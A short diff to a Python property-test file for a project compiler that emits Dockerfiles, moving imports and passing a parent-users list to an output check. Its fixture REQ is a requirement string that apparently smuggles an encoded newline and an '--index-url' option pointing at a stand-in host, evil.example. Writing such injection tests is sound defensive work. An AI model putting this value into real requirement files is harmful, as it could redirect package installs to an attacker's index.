@@ -11,7 +11,8 @@ from hypothesis import strategies as st
 
 from compiler.errors import ConfigError
 from compiler.pipeline import compile_project
-from tests.test_properties import check_output, pip_reads, project_dir, props
+from tests.dockerfile_check import check_output, pip_reads
+from tests.property_support import PARENT_USERS, project_dir, props
 
 MAIN = 'version: 1\nproject: u7\ninclude: ["envs/*.yaml"]\npipelines: {p: {environment: base, steps: {a: {}}}}\n'
 REQ = "foo @ https://h.example/x+AAo---index-url=http://evil.example/simple"
@@ -24,7 +25,7 @@ def _env(req: str) -> str:
 def _compile(name: str, req: str = REQ) -> dict[str, str]:
     with project_dir(MAIN, {f"envs/{name}.yaml": _env(req)}) as main:
         compiled = compile_project(main)
-        check_output(compiled)
+        check_output(compiled, PARENT_USERS)
         return dict(compiled.files)
 
 
